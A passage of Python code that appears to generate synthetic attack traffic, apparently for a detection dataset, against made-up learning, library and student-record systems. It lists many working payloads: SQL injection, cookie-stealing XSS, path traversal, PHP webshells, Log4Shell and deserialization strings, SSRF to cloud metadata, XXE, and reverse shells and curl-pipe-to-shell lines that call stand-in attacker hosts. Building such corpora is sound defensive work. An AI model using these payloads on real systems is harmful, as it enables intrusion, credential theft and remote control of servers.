    c.add(rng, cat, None, "xapi-query", "GET", "lrs", "/data/xAPI/statements",
          raw_query="agent=" + quote(p, safe="") + "&limit=50", api=True,
          auth=basic_auth(token(rng, 20), token(rng, 20)), headers=[["X-Experience-API-Version", "1.0.3"]])


def p_bibtex_field(c, rng, cat, p, field="title"):
    bib = "@article{imported%d,\n  author = {Smith, J.},\n  %s = {%s},\n  year = {2024}\n}\n" % (rng.randint(1, 999), field, p)
    c.add(rng, cat, None, "bibtex-import", "POST", "cite", "/api/users/%d/items/import" % rng.randint(1, 99999),
          body=bib, ctype="application/x-bibtex; charset=utf-8", api=True, headers=[["Zotero-API-Version", "3"]])


PLACE = {"catalog": p_catalog, "catalog_pct": p_catalog_pct, "sru": p_sru, "ws_get": p_ws_get, "ws_post": p_ws_post,
         "quiz": p_quiz, "forum": p_forum, "forum_subject": p_forum_subject, "canvas_json": p_canvas_json,
         "canvas_json_u": p_canvas_json_u, "canvas_search": p_canvas_search, "canvas_sort": p_canvas_sort,
         "sis_json": p_sis_json, "sis_dir": p_sis_dir, "sis_transcript": p_sis_transcript, "judge_q": p_judge_q,
         "repo_q": p_repo_q, "lti": p_lti11, "lti_custom": p_lti_custom, "edx": p_edx_problem, "survey": p_survey,
         "chem": p_chem, "xapi_agent": p_xapi_agent, "bibtex": p_bibtex_field}

USED_PAYLOADS = set()


def place_all(c, cat, items):
    """items: list of (placement, payload); each payload must be new."""
    rng = rng_for("attack:" + cat)
    for where, payload in items:
        if payload in USED_PAYLOADS:
            raise SystemExit("payload repeated: %r" % payload)
        USED_PAYLOADS.add(payload)
        place(c, rng, cat, where, payload)


def p_hdr(name):
    def f(c, rng, cat, p):
        path, q = rng.choice([("/login/index.php", None), ("/mod/scorm/player.php", [("a", "12"), ("scoid", "44")]),
                              ("/my/", None), ("/course/view.php", [("id", "42")])])
        if name == "Cookie":
            hdrs = [["Cookie", "MoodleSession=%s; MOODLEID1_=%s" % (token(rng, 26), p)]]
        else:
            hdrs = [[name, p]]
        c.add(rng, cat, None, "header-" + name.lower(), "GET", "moodle", path, query=q,
              cookie=None if name == "Cookie" else "moodle", headers=hdrs)
    return f


def p_raw_path(host):
    def f(c, rng, cat, p):
        path, _, query = p.partition("?")
        c.add(rng, cat, None, "path-" + host, "GET", host, path, raw_query=query or None,
              cookie={"hub": "hub", "moodle": "moodle", "canvas": "canvas"}.get(host, "generic"))
    return f


def p_tex(c, rng, cat, p):
    c.add(rng, cat, None, "tex-render", "GET", "moodle", "/filter/tex/texdebug.php",
          raw_query="tex=" + quote(p, safe="") + "&action=ShowImageTex", cookie="moodle")


def p_bib(field):
    def f(c, rng, cat, p):
        p_bibtex_field(c, rng, cat, p, field)
    return f


def p_kernel(c, rng, cat, p):
    user = rng.choice(["aobrien", "zmuller", "cwei", "guest-%d" % rng.randint(1, 999)])
    kid = "%08x-%04x-%04x-%04x-%012x" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(48))
    c.add(rng, cat, None, "kernel-execute", "POST", "hub", "/user/%s/api/kernels/%s/execute" % (user, kid),
          body=json.dumps({"code": p, "silent": False, "store_history": True, "user_expressions": {}, "allow_stdin": False}),
          ctype="application/json", api=True, auth="token " + token(rng, 32, "0123456789abcdef"))


def p_notebook_md(c, rng, cat, p):
    user = rng.choice(["aobrien", "zmuller", "cwei"])
    nb = {"cells": [{"cell_type": "markdown", "metadata": {}, "source": [p]}],
          "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}, "nbformat": 4, "nbformat_minor": 5}
    c.add(rng, cat, None, "notebook-save", "PUT", "hub", "/user/%s/api/contents/shared/README.ipynb" % user,
          body=json.dumps({"type": "notebook", "format": "json", "content": nb}), ctype="application/json",
          cookie="hub", headers=[["X-XSRFToken", token(rng, 40)]])


UPLOAD_TYPES = {"svg": "image/svg+xml", "php": "application/x-php", "jpg": "image/jpeg", "gif": "image/gif",
                "phtml": "application/octet-stream", "xml": "text/xml", "htaccess": "text/plain", "txt": "text/plain",
                "csv": "text/csv", "html": "text/html", "tex": "application/x-tex", "bib": "text/x-bibtex", "py": "text/x-python"}


def p_upload(filename):
    def f(c, rng, cat, p):
        ext = filename.rsplit(".", 1)[-1]
        ct, body = multipart(rng, [("repo_upload_file", filename, UPLOAD_TYPES.get(ext, "application/octet-stream"), p),
                                   ("title", filename), ("author", rng.choice(NAMES)), ("license", "allrightsreserved"),
                                   ("itemid", str(rng.randint(100000000, 999999999))), ("repo_id", "5"), ("p", ""),
                                   ("page", ""), ("env", "filemanager"), ("sesskey", sesskey(rng)), ("client_id", token(rng, 13, "0123456789abcdef")),
                                   ("ctx_id", str(rng.randint(2, 9999))), ("savepath", "/")])
        c.add(rng, cat, None, "file-upload", "POST", "moodle", "/repository/repository_ajax.php",
              raw_query="action=upload", body=body, ctype=ct, cookie="moodle", headers=[["X-Requested-With", "XMLHttpRequest"]])
    return f


XML_ENDPOINTS = {
    "scorm": ("moodle", "PUT", "/api/authoring/packages/17/imsmanifest.xml", "application/xml", None),
    "qti": ("canvas", "POST", "/api/v1/courses/4242/content_migrations/qti", "application/xml", None),
    "moodlexml": ("moodle", "POST", "/question/bank/importquestions/import.php", None, "questions.xml"),
    "marcxml": ("library", "POST", "/cgi-bin/koha/svc/import_bib", "text/xml", None),
    "lti_outcomes": ("lti", "POST", "/lti/outcomes/replace", "application/xml", None),
    "olx": ("edx", "POST", "/api/courses/v1/xblock/problem/import", "application/xml", None),
    "cml": ("chem", "POST", "/api/compounds/import", None, "molecule.cml"),
    "sbml": ("bio", "POST", "/api/models/sbml", "application/sbml+xml", None),
    "tei": ("repo", "POST", "/api/editions/tei", "application/tei+xml", None),
    "datacite": ("repo", "PUT", "/api/dois/10.5281/zenodo.7654321/metadata", "application/vnd.datacite.datacite+xml", None),
    "svg": ("canvas", "POST", "/files/pending", None, "diagram.svg"),
    "ncml": ("repo", "POST", "/thredds/ncml/validate", "application/xml", None),
    "sru_update": ("library", "POST", "/sru/update", "text/xml; charset=utf-8", None),
}


def p_xml(kind):
    def f(c, rng, cat, p):
        host, method, path, ctype, fname = XML_ENDPOINTS[kind]
        if fname:
            ct, body = multipart(rng, [("file", fname, "text/xml" if not fname.endswith("svg") else "image/svg+xml", p),
                                       ("sesskey", sesskey(rng)), ("format", kind)])
            c.add(rng, cat, None, "xml-" + kind, method, host, path, body=body, ctype=ct, cookie="generic")
        else:
            c.add(rng, cat, None, "xml-" + kind, method, host, path, body=p, ctype=ctype, api=True,
                  auth="Bearer " + token(rng, 40), accept="application/xml")
    return f


JSON_ENDPOINTS = {
    "sis_login": ("sis", "POST", "/api/v2/auth/login"),
    "lrs_login": ("lrs", "POST", "/api/auth/login"),
    "judge_login": ("judge", "POST", "/api/login"),
    "sis_profile": ("sis", "PATCH", "/api/v2/students/S0048121"),
    "lrs_aggregate": ("lrs", "POST", "/api/statements/aggregate"),
    "forum_threads": ("edx", "POST", "/forum/api/v1/search/threads"),
    "repo_find": ("repo", "POST", "/api/v1/datasets/_find"),
    "grader_config": ("grader", "POST", "/api/v1/assignments/hw4/config"),
    "survey_logic": ("survey", "POST", "/API/v3/surveys/SV_8dL2kQ/flow"),
    "edx_cert": ("edx", "POST", "/certificates/course-v1:UniX+CHEM101+Fall2024"),
    "canvas_notify": ("canvas", "PUT", "/api/v1/accounts/1/notification_templates/42"),
    "judge_submit": ("judge", "POST", "/submissions"),
    "canvas_files": ("canvas", "POST", "/api/v1/courses/4242/files"),
    "repo_import": ("repo", "POST", "/api/deposit/depositions/778812/actions/import"),
    "judge_webhook": ("judge", "POST", "/api/contests/88/webhooks"),
    "lti_register": ("lti", "POST", "/lti/register/complete"),
    "sis_export": ("sis", "POST", "/api/v2/reports/export"),
}


def p_json(kind):
    """The payload is the complete JSON body."""
    def f(c, rng, cat, p):
        host, method, path = JSON_ENDPOINTS[kind]
        c.add(rng, cat, None, "json-" + kind, method, host, path, body=p, ctype="application/json", api=True,
              auth=None if kind.endswith("login") else "Bearer " + token(rng, 40))
    return f


FORM_ENDPOINTS = {
    "sis_login": ("sis", "/login"), "moodle_login": ("moodle", "/login/index.php"),
    "moodle_url_download": ("moodle", "/repository/repository_ajax.php?action=download"),
    "sis_save": ("sis", "/psc/CS/EMPLOYEE/SA/c/SA_LEARNER_SERVICES.SSS_STUDENT_CENTER.GBL"),
    "edx_forum": ("edx", "/forum/api/v1/threads"), "blast": ("bio", "/blast/Blast.cgi"),
    "chem_convert": ("chem", "/api/convert"), "image_resize": ("moodle", "/lib/image_resize.php"),
    "dir_login": ("sis", "/idp/profile/SAML2/Redirect/SSO?execution=e1s1"), "judge_run": ("judge", "/api/run"),
    "survey_admin": ("survey", "/index.php/admin/emailtemplates/sa/update"),
    "cert_template": ("edx", "/admin/certificates/certificatetemplate/3/change/"),
}


def p_form(kind):
    """The payload is the complete urlencoded body."""
    def f(c, rng, cat, p):
        host, path = FORM_ENDPOINTS[kind]
        path, _, q = path.partition("?")
        c.add(rng, cat, None, "form-" + kind, "POST", host, path, raw_query=q or None, body=p,
              ctype="application/x-www-form-urlencoded", cookie={"moodle": "moodle", "edx": "edx"}.get(host, "generic"))
    return f


def place(c, rng, cat, where, payload):
    if where in PLACE:
        return PLACE[where](c, rng, cat, payload)
    kind, _, arg = where.partition(":")
    factories = {"hdr": p_hdr, "path": p_raw_path, "bib": p_bib, "upload": p_upload, "xml": p_xml,
                 "json": p_json, "form": p_form}
    if kind in factories:
        return factories[kind](arg)(c, rng, cat, payload)
    if kind == "tex":
        return p_tex(c, rng, cat, payload)
    if kind == "kernel":
        return p_kernel(c, rng, cat, payload)
    if kind == "nbmd":
        return p_notebook_md(c, rng, cat, payload)
    raise SystemExit("unknown placement " + where)


# --------------------------------------------------------------------------
# Attack payloads, by class
# --------------------------------------------------------------------------

def gen_sqli(c):
    place_all(c, "sqli", [
        ("catalog", '"pride and prejudice") UNION SELECT username,password,NULL,NULL FROM mdl_user-- -'),
        ("catalog", "climate' AND 1=CONVERT(int,(SELECT @@version))--"),
        ("catalog", "Tolstoy%' AND 1=1 AND '%'='"),
        ("catalog", "1'/*!50000UNION*//*!50000SELECT*/1,2,table_name FROM information_schema.tables-- -"),
        ("catalog_pct", "') OR ('1'='1"),
        ("catalog_pct", "war and peace' ORDER BY 12-- -"),
        ("sru", "dc.title=\"x\"' UNION ALL SELECT NULL,column_name FROM information_schema.columns--"),
        ("sru", "bath.isbn=1'; SHUTDOWN WITH NOWAIT;--"),
        ("ws_get", "42 AND (SELECT 5120 FROM (SELECT(SLEEP(5)))a)"),
        ("ws_get", "42;SELECT pg_sleep(10)--"),
        ("ws_get", "42 UNION/**/SELECT/**/1,password,3/**/FROM/**/mdl_user/**/WHERE/**/id=2"),
        ("ws_get", "-1 OR 2+811-811-1=0+0+0+1"),
        ("ws_post", "admin' OR '1'='1' -- "),
        ("ws_post", "x'||(SELECT CASE WHEN (1=1) THEN 'a' ELSE CHR(0) END FROM dual)||'"),
        ("quiz", "1' AND extractvalue(1,concat(0x7e,(SELECT password FROM mdl_user LIMIT 1)))-- -"),
        ("quiz", "0' uNiOn SeLeCt 1,2,group_concat(username,0x3a,password) fRoM mdl_user#"),
        ("canvas_search", "obrien' AND updatexml(1,concat(0x3a,user()),1) AND '1'='1"),
        ("canvas_search", "zz%' OR 1=1 LIMIT 1 OFFSET 0--"),
        ("canvas_sort", "(CASE WHEN (SELECT substr(current_user,1,1))='p' THEN created_at ELSE id END)"),
        ("canvas_sort", "due_at,(select 1 from pg_sleep(5))"),
        ("sis_json", "Smith' OR 1=1--"),
        ("sis_json", "x' UNION SELECT ssn, date_of_birth, NULL FROM students--"),
        ("sis_dir", "O'Brien' WAITFOR DELAY '0:0:5'--"),
        ("sis_dir", "'; EXEC master..xp_cmdshell 'whoami';--"),
        ("sis_transcript", "S1234567%27%20OR%20%271%27%3D%271"),
        ("sis_transcript", "S0000001%2527%2520UNION%2520SELECT%2520NULL%252Cpassword%2520FROM%2520users--"),
        ("judge_q", "difficulty,(SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)"),
        ("judge_q", "id desc; DROP TABLE submissions--"),
        ("repo_q", "doi:\"10.5281/zenodo.1\" ' AND SUBSTRING(@@version,1,1)='5"),
        ("repo_q", "1 AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64"),
        ("lti", "Liam'); INSERT INTO mdl_role_assignments (roleid,userid,contextid) VALUES (1,5,1);-- "),
        ("lti_custom", "lab-3' AND (SELECT 1 FROM dual WHERE BENCHMARK(5000000,MD5(1)))-- "),
        ("edx", "1 or sleep(3)#"),
        ("survey", "'), ((SELECT LOAD_FILE('/etc/passwd')))#"),
        ("chem", "CCO' UNION SELECT smiles,inchi FROM compounds WHERE '1' LIKE '1"),
        ("xapi_agent", '{"mbox":"mailto:a@b.example\' OR \'x\'=\'x"}'),
        ("bib:title", "x', (SELECT password FROM users LIMIT 1), '2024')-- "),
        ("forum_subject", "Re: hi' AND 1=0 UNION SELECT NULL, @@datadir-- "),
        ("hdr:X-Forwarded-For", "127.0.0.1' AND SLEEP(5) AND '1'='1"),
        ("hdr:User-Agent", "Mozilla/5.0' , (select 1 from (select sleep(4))x))-- "),
        ("hdr:Cookie", "1' AND 1=2 UNION SELECT 1,2,3-- "),
        ("form:sis_login", "username=registrar%27--&password=irrelevant&lt=LT-1"),
    ])


def gen_xss(c):
    place_all(c, "xss", [
        ("forum", "<script>fetch('//evil.example/c?'+document.cookie)</script>"),
        ("forum", "<img src=x onerror=alert(document.domain)>"),
        ("forum", "<svg/onload=eval(atob('YWxlcnQoMSk='))>"),
        ("forum", "<p>See $\\href{javascript:alert(1)}{the proof}$</p>"),
        ("forum", "<math><mtext><table><mglyph><style><img src=x onerror=alert(2)></style></mglyph></table></mtext></math>"),
        ("forum", "<a href=\"jAvAsCrIpT&colon;alert(3)\">syllabus</a>"),
        ("forum", "<iframe srcdoc=\"&lt;script&gt;parent.alert(4)&lt;/script&gt;\"></iframe>"),
        ("quiz", "\"><script>alert(String.fromCharCode(88,83,83))</script>"),
        ("quiz", "<details open ontoggle=prompt(5)>"),
        ("quiz", "<body onpageshow=alert(6)>"),
        ("canvas_json", "<img src=\"x\" onerror=\"this.src='https://evil.example/?c='+document.cookie\">"),
        ("canvas_json", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
        ("canvas_json_u", "<script>new Image().src='//x.example/'+localStorage.getItem('token')</script>"),
        ("canvas_json_u", "<svg><animate onbegin=alert(7) attributeName=x dur=1s>"),
        ("canvas_search", "\"><svg onload=confirm(8)>"),
        ("sis_dir", "<ScRiPt>alert(9)</sCrIpT>"),
        ("edx", "<input autofocus onfocus=alert(10)>"),
        ("survey", "<marquee loop=1 width=0 onfinish=alert(11)>"),
        ("survey", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(12)//'>"),
        ("bib:url", "javascript:alert(document.cookie)"),
        ("bib:title", "{<img src=1 onerror=alert(13)>}"),
        ("lti", "Liam<script src=//evil.example/x.js></script>"),
        ("lti_custom", "lab-3\"><img src=x onerror=alert(14)//"),
        ("catalog", "\"><img src=x onerror=alert('xss')>"),
        ("repo_q", "</script><script>alert(15)</script>"),
        ("chem", "CC<svg onload=alert(16)>O"),
        ("ws_post", "<a href=# onclick=\"document.location='//evil.example/'+document.cookie\">x</a>"),
        ("path:moodle", "/auth/saml2/login.php?wants=javascript:alert(17)//&idp=a1b2c3"),
        ("hdr:Referer", "https://moodle.uni-example.edu/\"><script>alert(18)</script>"),
        ("sis_transcript", "%253Cscript%253Ealert(19)%253C%252Fscript%253E"),
        ("upload:avatar.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"><circle r=\"40\"/></svg>"),
        ("nbmd", "[solutions](javascript:fetch('/hub/api/users',{credentials:'include'}).then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t)))"),
        ("forum_subject", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
        ("canvas_json", "<math href=\"javascript:alert(20)\">CLICK</math>"),
    ])


def gen_lfi(c):
    place_all(c, "lfi", [
        ("bib:title", "\\input{/etc/passwd}"),
        ("bib:abstract", "\\include{../../../../etc/shadow}"),
        ("bib:note", "\\verbatiminput{/proc/self/environ}"),
        ("forum", "<p>$$\\lstinputlisting{/var/run/secrets/kubernetes.io/serviceaccount/token}$$</p>"),
        ("tex", "\\newread\\file\\openin\\file=/etc/hostname\\read\\file to\\line \\text{\\line}\\closein\\file"),
        ("tex", "\\input{../../../../../../config.php}"),
        ("path:moodle", "/pluginfile.php/1/../../../../etc/passwd"),
        ("path:moodle", "/draftfile.php/5/user/draft/1/..%2f..%2f..%2f..%2fconfig.php"),
        ("path:hub", "/user/aobrien/api/contents/..%2f..%2f..%2f..%2fetc%2fpasswd"),
        ("path:hub", "/user/zmuller/files/..%2F..%2F..%2Froot%2F.kube%2Fconfig"),
        ("path:moodle", "/mod/resource/view.php?id=1187&file=....//....//....//etc/passwd"),
        ("path:repo", "/repository/download?path=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        ("path:moodle", "/mod/scorm/loadSCO.php?a=12&scoid=44&file=..\\..\\..\\..\\windows\\win.ini"),
        ("path:repo", "/records/7654321/files/../../../../etc/passwd%00.pdf"),
        ("path:library", "/cgi-bin/koha/opac-export.pl?op=export&bib=1&format=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
        ("path:judge", "/api/problems/12/testdata?file=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/home/judge/.ssh/id_rsa"),
        ("path:moodle", "/theme/styles.php?theme=../../../../../../proc/self/environ&rev=1"),
        ("path:sis", "/help?lang=../../../../../../../var/log/nginx/access.log"),
        ("path:repo", "/records/1/files/..%5c..%5c..%5c..%5cboot.ini"),
        ("form:blast", "CMD=Put&PROGRAM=blastn&DATABASE=..%2F..%2F..%2F..%2Fetc%2Fpasswd&QUERY=ACGTACGT"),
        ("kernel", "print(open('/var/run/secrets/kubernetes.io/serviceaccount/token').read())"),
        ("kernel", "with open('/etc/shadow') as f:\n    print(f.read())"),
        ("path:canvas", "/courses/4242/files/download?path=/proc/self/cwd/config/database.yml"),
    ])


def gen_rfi(c):
    place_all(c, "rfi", [
        ("path:moodle", "/theme/index.php?theme=http://evil.example/shell.txt?"),
        ("path:moodle", "/mod/scorm/loadSCO.php?a=3&scoid=9&file=https://evil.example/c99.txt?"),
        ("path:sis", "/index.php?include=ftp://198.51.100.23/pub/x.php"),
        ("path:library", "/opac/index.php?lang=http://203.0.113.9/r57.txt%00"),
        ("path:survey", "/index.php?tpl=https://pastebin.example/raw/a8Fk2?&sid=991122"),
        ("path:wiki", "/index.php?page=hTtP://evil.example/inc.txt&action=render"),
        ("path:moodle", "/lib/editor/atto/plugins/equation/ajax.php?path=\\\\203.0.113.9\\share\\x.php"),
        ("form:survey_admin", "template=default&header_file=http%3A%2F%2Fevil.example%2Fheader.php%3F&save=1"),
    ])


def gen_rce(c):
    place_all(c, "rce", [
        ("forum", "<p>$$\\immediate\\write18{curl http://evil.example/s.sh | sh}$$</p>"),
        ("tex", "\\write18{id > /tmp/o}"),
        ("bib:note", "\\input|\"ls -la /\""),
        ("json:grader_config", json.dumps({"compiler": "gcc", "compiler_flags": "-O2; cat /etc/passwd", "timeout": 5})),
        ("json:judge_submit", json.dumps({"source_code": "int main(){}", "language_id": "50 && nc -e /bin/sh 203.0.113.7 4444", "stdin": ""})),
        ("form:judge_run", "filename=main.c%3Bcurl%24%7BIFS%7Devil.example%7Csh&lang=c&src=int+main%28%29%7Breturn+0%3B%7D"),
        ("kernel", "import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])"),
        ("kernel", "!bash -i >& /dev/tcp/198.51.100.23/9001 0>&1"),
        ("kernel", "__import__('os').system('curl -s http://198.51.100.23/k | bash')"),
        ("form:blast", "CMD=Put&PROGRAM=blastp%3B+wget+http%3A%2F%2Fevil.example%2Fx+-O+%2Ftmp%2Fx%3B+chmod+%2Bx+%2Ftmp%2Fx%3B+%2Ftmp%2Fx&DATABASE=nr&QUERY=MVLSPADK"),
        ("form:chem_convert", "in=smi&out=mol2&data=CCO%24%28id%29"),
        ("form:chem_convert", "in=smi&out=sdf&data=c1ccccc1%60uname+-a%60"),
        ("path:bio", "/entrez/eutils/esearch.fcgi?db=gene&term=BRCA1|cat%20/etc/passwd"),
        ("path:bio", "/api/sequences/fetch?ids=sp|P69905&format=fasta%26%26ping%20-c%203%20203.0.113.1"),
        ("form:image_resize", "file=avatar.png&size=64x64%0Aid&sesskey=k2Hs9dLq0a"),
        ("json:grader_config", json.dumps({"repo": "https://github.com/x/y.git --upload-pack='touch /tmp/pwn'", "branch": "main"})),
        ("survey", ";cat${IFS}/etc/passwd"),
        ("quiz", "| powershell -nop -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA=="),
        ("json:repo_import", json.dumps({"filename": "data$(whoami).csv", "source": "upload"})),
        ("sis_transcript", "S0000002%0Aid%0A"),
        ("form:moodle_login", "username=aobrien&password=%60%2Fbin%2Fsleep+10%60&logintoken=9d8f7a"),
        ("hdr:User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
        ("edx", "; /usr/bin/id"),
        ("form:chem_convert", "in=smi&out=png&data=C%26%26type+C%3A%5CWindows%5Cwin.ini"),
    ])


def gen_php(c):
    place_all(c, "php", [
        ("upload:shell.php.jpg", "\xff\xd8\xff\xe0<?php system($_GET['cmd']); ?>"),
        ("upload:avatar.gif", "GIF89a;<?php eval(base64_decode($_POST['x'])); ?>"),
        ("path:moodle", "/mod/resource/view.php?id=77&file=php://filter/convert.base64-encode/resource=config.php"),
        ("path:sis", "/index.php?page=phar://../../moodledata/temp/evil.jpg/x"),
        ("path:survey", "/index.php?module=expect://id"),
        ("path:library", "/opac/index.php?inc=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=="),
        ("hdr:Cookie", "O:8:\"core_php\":1:{s:4:\"code\";s:10:\"phpinfo();\";}"),
        ("quiz", "<?=`ls -la`?>"),
        ("upload:.htaccess", "AddType application/x-httpd-php .jpg\nphp_value auto_prepend_file /tmp/sess_x"),
        ("forum", "<p><?php echo file_get_contents('/etc/passwd'); ?></p>"),
        ("upload:lab5.phtml", "<?php @assert($_REQUEST['a']); ?>"),
    ])


def gen_java(c):
    place_all(c, "java", [
        ("hdr:User-Agent", "${jndi:ldap://203.0.113.5:1389/Exploit}"),
        ("hdr:X-Api-Version", "${${lower:j}ndi:${lower:l}dap://x.evil.example/a}"),
        ("lti", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/o}"),
        ("xapi_agent", '{"name":"${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example}","mbox":"mailto:q@uni-example.edu"}'),
        ("sis_json", "${jndi:ldaps://evil.example:636/${sys:java.version}}"),
        ("form:sis_save", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&"
                          "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&"
                          "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps%2FROOT"),
        ("hdr:Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)"
                             ".(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"),
        ("path:sis", "/registration/index.action?redirect:" + quote("${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"id\"})).start()}", safe="(){}$#.:[]")),
        ("hdr:Cookie", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3I"),
        ("xml:sru_update", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\">"
                           "<target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
        ("json:sis_export", '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://evil.example:1389/obj","autoCommit":true}]'),
        ("canvas_search", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
        ("json:grader_config", json.dumps({"postGradeHook": "java.lang.Runtime.getRuntime().exec(\"curl evil.example/h\")", "lang": "groovy"})),
        ("json:sis_export", json.dumps({"format": "xlsx", "@type": "org.apache.xbean.propertyeditor.JndiConverter", "asText": "ldap://203.0.113.5/x"})),
        ("form:dir_login", "j_username=aobrien&j_password=x&_eventId_proceed=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fz%7D"),
    ])


SSRF_URLS = [
    ("form:moodle_url_download", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("json:canvas_files", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("json:repo_import", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("cite_url", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("json:judge_webhook", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("nbgitpuller", "http://127.0.0.1:10250/pods"),
    ("json:lti_register", "http://10.96.0.10:2379/v2/keys/?recursive=true"),
    ("form:moodle_url_download", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20bash%20-i%3E%26/dev/tcp/203.0.113.7/1%200%3E%261%5Cn%22"),
    ("cite_url", "dict://127.0.0.1:11211/stats"),
    ("json:canvas_files", "http://2852039166/latest/user-data"),
    ("nbviewer", "http://0xa9fea9fe/latest/meta-data/"),
    ("json:repo_import", "http://0177.0.0.1:8080/manager/html"),
    ("json:judge_webhook", "http://localhost:9200/_cat/indices?v"),
    ("cite_url", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("form:moodle_url_download", "file:///etc/passwd"),
    ("json:lti_register", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("nbgitpuller", "http://169.254.170.2/v2/credentials/"),
    ("json:canvas_files", "http://hub.jhub.svc.cluster.local:8081/hub/api/users"),
    ("nbviewer", "http://127.1:8001/api/v1/secrets"),
    ("cite_url", "http://evil.example@169.254.169.254/latest/meta-data/"),
    ("json:repo_import", "http://instance-data/latest/meta-data/"),
    ("json:judge_webhook", "jar:http://127.0.0.1:8080/x.jar!/"),
    ("kernel", "import requests\nr = requests.put('http://169.254.169.254/latest/api/token', headers={'X-aws-ec2-metadata-token-ttl-seconds': '21600'})\nprint(r.text)"),
    ("kernel", "!curl -sk -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://kubernetes.default.svc/api/v1/namespaces/jhub/pods"),
]


def gen_ssrf(c):
    rng = rng_for("attack:ssrf-wrap")
    items = []
    for where, url in SSRF_URLS:
        if where == "form:moodle_url_download":
            items.append((where, qs([("repo_id", "5"), ("file", url), ("title", "dataset.csv"), ("itemid", str(rng.randint(10**8, 10**9))),
                                    ("sesskey", sesskey(rng)), ("savepath", "/"), ("env", "filepicker")])))
        elif where == "json:canvas_files":
            items.append((where, json.dumps({"url": url, "name": "lecture-notes.pdf", "parent_folder_path": "course files/imports"})))
        elif where == "json:repo_import":
            items.append((where, json.dumps({"links": {"import": url}, "checksum": "md5:" + token(rng, 32, "0123456789abcdef")})))
        elif where == "json:judge_webhook":
            items.append((where, json.dumps({"callback_url": url, "events": ["submission.judged"]})))
        elif where == "json:lti_register":
            items.append((where, json.dumps({"openid_configuration": url, "registration_token": token(rng, 40)})))
        elif where == "cite_url":
            items.append(("path:cite", "/api/import-url?" + qs_pct([("url", url), ("format", "bibtex")])))
        elif where == "nbgitpuller":
            items.append(("path:hub", "/hub/user-redirect/git-pull?" + qs([("repo", url), ("branch", "main"), ("urlpath", "lab/tree/course")])))
        elif where == "nbviewer":
            items.append(("path:hub", "/services/nbviewer/url/" + url.split("://", 1)[1]))
        else:
            items.append((where, url))
    place_all(c, "ssrf", items)


def gen_xxe(c):
    X = '<?xml version="1.0" encoding="UTF-8"?>\n'
    place_all(c, "xxe", [
        ("xml:scorm", X + '<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<manifest identifier="m1" version="1.3" '
                     'xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"><organizations default="O1"><organization identifier="O1">'
                     '<title>&xxe;</title></organization></organizations><resources/></manifest>'),
        ("xml:qti", X + '<!DOCTYPE questestinterop [<!ENTITY % remote SYSTEM "http://evil.example/qti.dtd"> %remote; %all;]>\n'
                   '<questestinterop><assessment ident="a1" title="Quiz 3"><section ident="s1"/></assessment></questestinterop>'),
        ("xml:moodlexml", X + '<!DOCTYPE quiz [<!ENTITY cfg SYSTEM "file:///var/www/moodle/config.php">]>\n<quiz><question type="shortanswer">'
                         '<name><text>Q1</text></name><questiontext format="html"><text>&cfg;</text></questiontext></question></quiz>'),
